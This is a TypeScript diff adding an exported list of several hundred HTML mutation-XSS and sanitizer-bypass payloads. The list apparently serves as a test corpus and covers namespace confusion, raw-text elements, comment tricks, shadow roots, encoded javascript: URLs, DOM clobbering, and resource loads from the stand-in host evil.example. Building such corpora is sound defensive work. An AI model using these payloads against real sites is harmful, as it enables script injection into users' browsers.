@@ -1,0 +1,267 @@
+// Forms of HTML that one parser reads otherwise than another, beside those of `attacks.ts`: by kinds, each of
+// our own. What they run tells the page around them by a global name.
+const RUN = 'window.hit=(window.hit||0)+1';
+/** Without signs that end an attribute or a name. */
+const IMG = `<img src=x onerror=${RUN}>`;
+const QUOTED = IMG.replaceAll('"', '&quot;');
+
+/** Elements at whose edges SVG and MathML become HTML again, or the other way. */
+const EDGES = [
+  ['svg', 'desc'],
+  ['svg', 'title'],
+  ['svg', 'foreignObject'],
+  ['svg', 'g'],
+  ['svg', 'foreignobject'],
+  ['math', 'mi'],
+  ['math', 'mo'],
+  ['math', 'mn'],
+  ['math', 'ms'],
+  ['math', 'mtext'],
+  ['math', 'annotation-xml'],
+  ['math', 'annotation-xml encoding="application/xhtml+xml"'],
+  ['math', 'mglyph'],
+  ['math', 'malignmark'],
+] as const;
+const namespaces = EDGES.flatMap(([root, edge]) => [
+  `<${root}><${edge}><style><!--</style><a title="--><img src onerror=${RUN}>">`,
+  `<${root}><${edge}></${root}><style><a id="</style>${QUOTED}">`,
+  `<${root}><${edge}><p></p><${root}><style>${IMG}</style>`,
+  `<${root}></br><${edge}><textarea><b title="</textarea>${QUOTED}">`,
+  `<form><${root}><${edge}></form><form><style></${root}>${IMG}`,
+  `<${root}><![CDATA[><${edge}>${IMG}]]></${root}>`,
+  `<table><${root}><${edge}><tr><td><style><a title="</style>${QUOTED}">`,
+]);
+
+/** Elements whose text one parser reads as text, another as elements. */
+const TEXTS = ['noscript', 'noembed', 'noframes', 'xmp', 'plaintext', 'title', 'textarea', 'style'];
+const texts = TEXTS.flatMap((name) => [
+  `<${name}><svg></${name}>${IMG}</svg>`,
+  `<svg><${name}><b title="</${name}>${QUOTED}"></b></${name}></svg>`,
+  `<math><mtext><${name}><b title="</${name}>${QUOTED}">`,
+  `<${name} ><!-- </${name} x>${IMG} -->`,
+  `<${name}></${name}\u000c>${IMG}`,
+  `<${name}></${name}/>${IMG}`,
+  `<select><${name}></select>${IMG}`,
+  `<template><${name}></template>${IMG}</${name}>`,
+]);
+
+/** What parts a comment, a declaration or an instruction from what follows it. */
+const comments = [
+  '<!-->',
+  '<!--->',
+  '<!----!>',
+  '<!-- --!>',
+  '<!--x--!x-->',
+  '<!--<!--->',
+  '<!--<!-- -->',
+  '<!-x>',
+  '<!>',
+  '<!DOCTYPE x SYSTEM "',
+  '<!ELEMENT x "',
+  '<?xml-stylesheet href="',
+  '<?php echo "?>',
+  '<?x>',
+  '</x y=">',
+  '</ x>',
+  '</>',
+  '</!-->',
+  '<![CDATA[',
+  '<![CDATA[]]>',
+  '<!\u005b[if IE]>',
+  '<!--[if gte IE 4]>',
+  '<%="',
+].flatMap((sign) => [
+  `${sign}${IMG}`,
+  `<svg>${sign}${IMG}</svg>`,
+  `<b title="${sign.replaceAll('"', '')}"${IMG}`,
+]);
+
+/** Trees of declarative shadow roots, parts that open, and elements that a name makes. */
+const shadows = [
+  `<div><template shadowrootmode=open>${IMG}</template></div>`,
+  `<div><template shadowrootmode=closed><style>*{color:red}</style>${IMG}</template></div>`,
+  `<p><template shadowrootmode="open" shadowrootclonable shadowrootserializable>${IMG}</template></p>`,
+  `<div><template shadowroot=open>${IMG}</template></div>`,
+  `<details><template shadowrootmode=open><slot>${IMG}</slot></template><summary>x</summary></details>`,
+  `<span><template SHADOWROOTMODE=OPEN>${IMG}<template shadowrootmode=open>${IMG}</template></template></span>`,
+  `<select><button><selectedcontent>${IMG}</selectedcontent></button><option>${IMG}</option></select>`,
+  `<select><option selected><img src=x onerror=${RUN}></option><selectedcontent></selectedcontent></select>`,
+  `<select><div>${IMG}</div><option>x</option></select>`,
+  `<div popover id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p autofocus onfocus=${RUN}>x</button>`,
+  `<button popovertarget=x onclick=${RUN} autofocus>x</button><div popover id=x ontoggle=${RUN}>x</div>`,
+  `<dialog open onclose=${RUN} oncancel=${RUN}><form method=dialog><button autofocus onfocus=${RUN}>x</button></form></dialog>`,
+  `<button command=show-modal commandfor=d onclick=${RUN}>x</button><dialog id=d ontoggle=${RUN}>x</dialog>`,
+  `<button interestfor=d onfocus=${RUN} autofocus>x</button>`,
+  `<x-y onfocus=${RUN} autofocus tabindex=0>x</x-y>`,
+  `<x-y onload=${RUN} onerror=${RUN} src=x></x-y>`,
+  `<p is=x-y onfocus=${RUN} autofocus tabindex=0>x</p>`,
+  `<img is=x-img src=x onerror=${RUN}>`,
+  `<button is="x-b" onclick=${RUN} autofocus onfocus=${RUN}>x</button>`,
+  `<slot onslotchange=${RUN}>${IMG}</slot>`,
+  `<search onfocusin=${RUN}><input autofocus></search>`,
+  `<fencedframe onload=${RUN}></fencedframe>`,
+  `<permission onpromptaction=${RUN} type=camera></permission>`,
+  `<menuitem onclick=${RUN}>x</menuitem><menu type=context onshow=${RUN}>x</menu>`,
+  `<keygen autofocus onfocus=${RUN}>`,
+  `<image src=x onerror=${RUN}>`,
+  `<image xlink:href=x onerror=${RUN}>`,
+  `<svg><image href=x onerror=${RUN}></svg>`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<bgsound src=x onerror=${RUN}><basefont onclick=${RUN}><command onclick=${RUN}>`,
+];
+
+const EVENTS = [
+  ...[
+    'onbeforeinput',
+    'onbeforematch',
+    'onanimationend',
+    'ontransitionrun',
+    'onwebkitanimationstart',
+  ],
+  ...[
+    'onfocusin',
+    'onscrollend',
+    'onscrollsnapchange',
+    'onresize',
+    'onselectstart',
+    'onpagereveal',
+  ],
+  ...[
+    'oncommand',
+    'onwheel',
+    'onhashchange',
+    'onpopstate',
+    'onmessage',
+    'onsecuritypolicyviolation',
+  ],
+];
+const events = EVENTS.flatMap((event) => [
+  `<p ${event}="${RUN}" tabindex=0 autofocus style="animation:x 1s;transition:all 1s">x</p>`,
+  `<body ${event}=${RUN}><b id=x ${event}=${RUN}>x</b>`,
+]);
+
+/** Addresses that become a script once they are decoded, or that load by themselves. */
+const ADDRESSES = [
+  `&#0000106avascript:${RUN}`,
+  `&#x000006A;avascript:${RUN}`,
+  `j&#x61;v&#97;script&#x3A;${RUN}`,
+  `java&#xA;script:${RUN}`,
+  `java&#13;script:${RUN}`,
+  `&#x1;&#x2;javascript:${RUN}`,
+  `&nbsp;javascript:${RUN}`,
+  `&#14;javascript:${RUN}`,
+  `javascript&NewLine;:${RUN}`,
+  `&Tab;j&Tab;a&Tab;vascript:${RUN}`,
+  `javascript://x%0a${RUN}`,
+  `javascript://x/&#10;${RUN}`,
+  `javascript:'<svg onload=${RUN}>'`,
+  `JAVASCRIPT&colon;&lpar;${RUN}&rpar;`,
+  `jav&#x09;ascript&#58;${RUN}`,
+  `data:text/html;charset=utf-7,+ADw-script+AD4-${RUN}`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${RUN}'/>`,
+  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
+  `data:,${RUN}`,
+  'blob:null/0',
+  'filesystem:https://a.example/x',
+  'jar:https://a.example!/x',
+  'about:srcdoc',
+  'chrome://settings',
+  'intent://a.example#Intent;scheme=https;end',
+  `https://a.example@javascript:${RUN}`,
+  `\\\\a.example\\x`,
+  'http:javascript:1',
+];
+const addresses = ADDRESSES.flatMap((address) => [
+  `<a href="${address}" ping="${address}">x</a>`,
+  `<img srcset="${address} 1x, ${address} 2x" src="${address}">`,
+  `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
+  `<form action="${address}"><input type=image src="${address}" formaction="${address}"></form>`,
+  `<svg><a xlink:href="${address}"><text>x</text></a><use href="${address}"/></svg>`,
+]);
+
+/** What loads, leads away or takes names by itself. */
+const loaders = [
+  `<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
+  `<META HTTP-EQUIV=&#114;efresh CONTENT="0;data:text/html,${RUN}">`,
+  '<meta http-equiv=content-security-policy content="default-src *">',
+  '<meta name=referrer content=unsafe-url><base href=//evil.example/ target=_top>',
+  '<base target=_top><a href="x">x</a>',
+  '<link rel=import href=//evil.example/x>',
+  '<link rel=preload as=script href=//evil.example/x><link rel=modulepreload href=//evil.example/x>',
+  '<link rel="dns-prefetch preconnect prefetch prerender" href=//evil.example/>',
+  '<link rel=manifest href=//evil.example/x><link rel=icon href=//evil.example/x>',
+  '<style>@import url(//evil.example/x);@font-face{font-family:x;src:url(//evil.example/x)}</style>',
+  '<p style="font-family:x;src:url(//evil.example/x)">x</p>',
+  '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>',
+  '<p style="background-image:image-set(\'//evil.example/x\' 1x)">x</p>',
+  '<p style="cursor:url(//evil.example/x),auto;content:url(//evil.example/x)">x</p>',
+  '<p style="list-style-image:\\75rl(//evil.example/x)">x</p>',
+  '<p style="width:expr/**/ession(hit=1)">x</p>',
+  '<p style="color:red;}*{background:url(//evil.example/x)">x</p>',
+  '<p style="--a:url(//evil.example/x);background:var(--a)">x</p>',
+  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
+  '<script type=importmap>{"imports":{"x":"https://evil.example/x"}}</script>',
+  '<script type=module src=//evil.example/x></script><script defer src=//evil.example/x></script>',
+  '<iframe src="//evil.example" csp="script-src *" credentialless allow="*"></iframe>',
+  '<iframe name=parent src=about:blank></iframe><iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;">',
+  '<object type=text/html data=//evil.example><param name=movie value=//evil.example></object>',
+  '<applet code=x archive=//evil.example/x></applet>',
+  '<portal src=//evil.example></portal><webview src=//evil.example></webview>',
+  '<form id=x action=//evil.example></form><input form=x autofocus><button form=x>x</button>',
+  '<video><source src=x onerror=hit=1><track default src=//evil.example/x></video>',
+  '<table background=//evil.example/x><td background=//evil.example/x>x</table>',
+  '<body background=//evil.example/x bgcolor=red link=x>',
+  '<img lowsrc=//evil.example/x dynsrc=//evil.example/x src=x>',
+  '<html manifest=//evil.example/x><head profile=//evil.example/x>',
+  '<a attributionsrc=//evil.example/x href=x>x</a><img attributionsrc=//evil.example/x src=x>',
+  '<img name=body><img name=cookie id=cookie><form name=getElementById></form>',
+  '<form id=body name=body><input name=attributes><input name=parentNode><input name=nodeName></form>',
+  '<a id=location href="javascript:1">x</a><a id=location name=href href="javascript:1">x</a>',
+  '<img name=currentScript id=currentScript src=x><embed name=querySelector>',
+  '<object name=head id=head></object><iframe name=defaultView></iframe>',
+  '<form name=createElement></form><img name=forms><img name=implementation>',
+];
+
+/** Trees that formatting, tables and forms build anew. */
+const trees = [
+  `<form><div></form><form>${IMG}`,
+  `<form><table></form><form></table>${IMG}</form>`,
+  `<table><a><tr><td><style></a><img title="</style>${QUOTED}">`,
+  `<table><caption><svg><style></caption>${IMG}`,
+  `<a><table><a><svg><title><b title="</title>${QUOTED}">`,
+  `<b><p><i><table><u></b><svg><style><a title="</style>${QUOTED}">`,
+  `<nobr><nobr><math><mi><nobr><style></nobr><b title="</style>${QUOTED}">`,
+  `<select><select><svg><style><b title="</style>${QUOTED}">`,
+  `<ruby><rt><svg><desc><rt><style><b title="</style>${QUOTED}">`,
+  `<h1><h2><svg></h1><style><b title="</style>${QUOTED}">`,
+  `<ul><li><ul><svg><li><style><b title="</style>${QUOTED}">`,
+  `<frameset><noframes></frameset>${IMG}</noframes>`,
+  `<colgroup><template></colgroup>${IMG}</template>`,
+  `<div>${'<svg><desc>'.repeat(40)}<style></svg>${IMG}`,
+  `${'<font>'.repeat(30)}<p>${'</font>'.repeat(8)}<svg><style></p>${IMG}`,
+  `<p>${'<i>'.repeat(12)}</p><table>${'</i>'.repeat(12)}<style></table>${IMG}`,
+  `<a title="&lt;/a>${QUOTED}" href="&quot;>${QUOTED}">x</a>`,
+  `<p title=\`>${IMG}\`>x</p>`,
+  `<p title=a'b"c>${IMG.replaceAll('img', 'b')}</p>`,
+  `<a href=x/title=y><b/onclick=${RUN}/>x</a>`,
+  `<p \u2028onclick=${RUN}\u2029autofocus tabindex=0 onfocus=${RUN}>x</p>`,
+  `<ſcript>${RUN}</ſcript><ıframe srcdoc="${QUOTED}"></ıframe>`,
+  `<İmg src=x onerror=${RUN}><K onclick=${RUN}>x</K>`,
+  `＜img src=x onerror=${RUN}＞`,
+  `&lt;\u0338img src=x onerror=${RUN}>`,
+  `<\ufeffimg src=x onerror=${RUN}><img\u200b src=x onerror=${RUN}>`,
+  `<p title="\ud800" ${IMG}>x</p>`,
+  `<p data-x="</p>" data-y='--><!--' class="]]>"${IMG}`,
+];
+
+/** All of them. */
+export const MUTATIONS: readonly string[] = [
+  ...namespaces,
+  ...texts,
+  ...comments,
+  ...shadows,
+  ...events,
+  ...addresses,
+  ...loaders,
+  ...trees,
+];
